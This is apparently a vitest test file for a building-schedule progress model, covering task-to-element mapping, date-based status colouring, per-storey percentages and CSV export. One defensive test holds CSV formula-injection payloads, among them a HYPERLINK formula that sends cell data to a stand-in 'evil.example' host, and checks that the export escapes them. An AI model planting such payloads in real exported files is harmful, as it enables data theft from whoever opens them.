import { describe, expect, it } from 'vitest';
import {
  planElements,
  progressCsv,
  progressStateAt,
  projectProgress,
  ScheduleTask,
  type ElementActual,
  type PlannedElement,
  type ProgressState,
  type SelectableElement,
} from '../../models/Progress.js';

// A hand-made two-storey model: 22-character ids keep the GlobalId schema honest.
const gid = (s: string) => s.padEnd(22, '0');
const el = (id: string, ifcClass: string, storeyName: string | null): SelectableElement => ({
  globalId: gid(id),
  ifcClass,
  storeyId: storeyName ? gid(`ST${storeyName}`) : null,
  storeyName,
});
const ELEMENTS = [
  el('S1', 'IfcSlab', 'Level 1'),
  el('W1', 'IfcWall', 'Level 1'),
  el('W2', 'IfcWall', 'Level 1'),
  el('W3', 'IfcWall', 'Level 1'),
  el('W4', 'IfcWallStandardCase', 'Level 1'),
  el('C1', 'IfcColumn', 'Level 1'),
  el('S2', 'IfcSlab', 'Level 2'),
  el('W5', 'IfcWall', 'Level 2'),
  el('W6', 'IFCWALL', 'Level 2'),
];
const TASKS = [
  {
    id: 'T1',
    name: 'Slab L1',
    plannedStart: '2025-03-01',
    plannedFinish: '2025-03-05',
    selector: { globalIds: [gid('S1')] },
  },
  {
    id: 'T2',
    name: 'Walls L1',
    plannedStart: '2025-03-06',
    plannedFinish: '2025-03-12',
    selector: { ifcClass: 'IfcWall', storey: 'Level 1' },
  },
  {
    id: 'T3',
    name: 'Slab L2',
    plannedStart: '2025-03-13',
    plannedFinish: '2025-03-15',
    selector: { globalIds: [gid('S2')] },
  },
  {
    id: 'T4',
    name: 'Walls L2',
    plannedStart: '2025-03-16',
    plannedFinish: '2025-03-20',
    selector: { ifcClass: 'ifcwall', storey: gid('STLevel 2') },
  },
].map((t) => ScheduleTask.parse(t));
const ACTUALS: Record<string, ElementActual> = {
  [gid('S1')]: { startedOn: '2025-03-01', finishedOn: '2025-03-04' },
  [gid('W1')]: { startedOn: '2025-03-05', finishedOn: '2025-03-10' },
  [gid('W2')]: { startedOn: '2025-03-07' },
  [gid('W3')]: { startedOn: '2025-03-13' },
  [gid('S2')]: { startedOn: '2025-03-10', inspectedOn: '2025-03-14' },
};

function colours(date: string): Record<string, ProgressState> {
  const { plans } = planElements(TASKS, ELEMENTS);
  const out: Record<string, ProgressState> = {};
  for (const [g, p] of plans) out[g.replace(/0+$/, '')] = progressStateAt(p, ACTUALS[g], date);
  return out;
}

function planned(): PlannedElement[] {
  const { plans } = planElements(TASKS, ELEMENTS);
  return [...plans].map(([globalId, p]) => ({
    globalId,
    ...p,
    ...(ACTUALS[globalId] ? { actual: ACTUALS[globalId] } : {}),
  }));
}

describe('4D colouring of a schedule', () => {
  it('resolves selectors: GlobalIds, class + storey name or id, StandardCase subtype, no unplanned column', () => {
    const { plans, counts } = planElements(TASKS, ELEMENTS);
    expect(Object.fromEntries(counts)).toEqual({ T1: 1, T2: 4, T3: 1, T4: 2 });
    expect([...plans.keys()].map((g) => g.replace(/0+$/, '')).sort()).toEqual([
      'S1',
      'S2',
      'W1',
      'W2',
      'W3',
      'W4',
      'W5',
      'W6',
    ]);
  });

  it('colours exactly the expected elements on 2025-03-08', () => {
    expect(colours('2025-03-08')).toEqual({
      S1: 'done',
      W1: 'on_time',
      W2: 'on_time',
      W3: 'behind',
      W4: 'behind',
      S2: 'not_started',
      W5: 'not_started',
      W6: 'not_started',
    });
  });

  it('colours exactly the expected elements on 2025-03-12', () => {
    expect(colours('2025-03-12')).toEqual({
      S1: 'done',
      W1: 'done',
      W2: 'on_time',
      W3: 'behind',
      W4: 'behind',
      S2: 'ahead',
      W5: 'not_started',
      W6: 'not_started',
    });
  });

  it('progress % per project and per storey equals a hand count', () => {
    // 03-08: done = S1 of 8 planned; due by plan = S1 (finish 03-05).
    const a = projectProgress('00000000-0000-4000-8000-000000000001', planned(), '2025-03-08');
    expect(a.total).toMatchObject({ planned: 8, done: 1, percent: 12.5, dueByPlan: 1, plannedPercent: 12.5 });
    expect(a.total.states).toEqual({ done: 1, on_time: 2, behind: 2, not_started: 3, ahead: 0 });
    expect(a.storeys.map((s) => [s.storey, s.planned, s.done, s.percent])).toEqual([
      ['Level 1', 5, 1, 20],
      ['Level 2', 3, 0, 0],
    ]);
    // 03-12: done = S1, W1 of 8; due by plan = S1 + four L1 walls.
    const b = projectProgress('00000000-0000-4000-8000-000000000001', planned(), '2025-03-12');
    expect(b.total).toMatchObject({ planned: 8, done: 2, percent: 25, dueByPlan: 5, plannedPercent: 62.5 });
    expect(b.storeys.map((s) => [s.storey, s.planned, s.done, s.percent])).toEqual([
      ['Level 1', 5, 2, 40],
      ['Level 2', 3, 0, 0],
    ]);
    const csv = progressCsv(b).split('\r\n');
    expect(csv[0]).toBe('storey,planned,done,percent,due_by_plan,planned_percent,ahead,on_time,behind,not_started');
    expect(csv[1]).toBe('Level 1,5,2,40,5,100,0,1,2,0');
    expect(csv[3]).toBe('TOTAL,8,2,25,5,62.5,1,1,2,2');
  });

  it('a storey named like a spreadsheet formula comes out of the CSV as text, not as a live formula', () => {
    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Level 1")', '+1+1', '-2+3', '@SUM(A1)', '\tLevel'];
    const els = evil.map((name, i) => el(`E${i}`, 'IfcWall', name));
    const tasks = [
      ScheduleTask.parse({
        id: 'T',
        name: 'walls',
        plannedStart: '2025-03-01',
        plannedFinish: '2025-03-05',
        selector: { ifcClass: 'IfcWall' },
      }),
    ];
    const plans = [...planElements(tasks, els).plans].map(([globalId, x]) => ({ globalId, ...x }));
    const p = projectProgress('00000000-0000-4000-8000-000000000001', plans, '2025-03-08');
    const firstCell = (l: string) =>
      l.startsWith('"') ? /^"((?:[^"]|"")*)"/.exec(l)![1]!.replace(/""/g, '"') : l.split(',')[0];
    const cells = progressCsv(p).split('\r\n').slice(1, -2).map(firstCell);
    expect(cells.sort()).toEqual(evil.map((n) => `'${n}`).sort());
    // Figures stay numbers, negative ones too (only text is guarded).
    expect(progressCsv(p).split('\r\n').at(-2)).toBe('TOTAL,5,0,0,5,100,0,0,5,0');
  });

  it('progressStateAt follows its documented boundaries', () => {
    const plan = { plannedStart: '2025-03-10', plannedFinish: '2025-03-20' };
    expect(progressStateAt(plan, undefined, '2025-03-10')).toBe('not_started'); // starting on the day is on plan
    expect(progressStateAt(plan, undefined, '2025-03-11')).toBe('behind');
    expect(progressStateAt(plan, { startedOn: '2025-03-01' }, '2025-03-05')).toBe('ahead');
    expect(progressStateAt(plan, { startedOn: '2025-03-12' }, '2025-03-20')).toBe('on_time');
    expect(progressStateAt(plan, { startedOn: '2025-03-12' }, '2025-03-21')).toBe('behind');
    // What is recorded after the date does not count yet.
    expect(progressStateAt(plan, { startedOn: '2025-03-12', finishedOn: '2025-03-15' }, '2025-03-14')).toBe('on_time');
    expect(progressStateAt(plan, { inspectedOn: '2025-03-15' }, '2025-03-15')).toBe('done');
  });

  it('refuses a task that finishes before it starts or selects nothing valid', () => {
    expect(
      ScheduleTask.safeParse({
        id: 'x',
        name: 'x',
        plannedStart: '2025-03-02',
        plannedFinish: '2025-03-01',
        selector: { ifcClass: 'IfcWall' },
      }).success,
    ).toBe(false);
    expect(
      ScheduleTask.safeParse({
        id: 'x',
        name: 'x',
        plannedStart: '2025-02-30',
        plannedFinish: '2025-03-01',
        selector: { ifcClass: 'IfcWall' },
      }).success,
    ).toBe(false);
    expect(
      ScheduleTask.safeParse({
        id: 'x',
        name: 'x',
        plannedStart: '2025-03-01',
        plannedFinish: '2025-03-01',
        selector: { globalIds: ['short'] },
      }).success,
    ).toBe(false);
  });
});
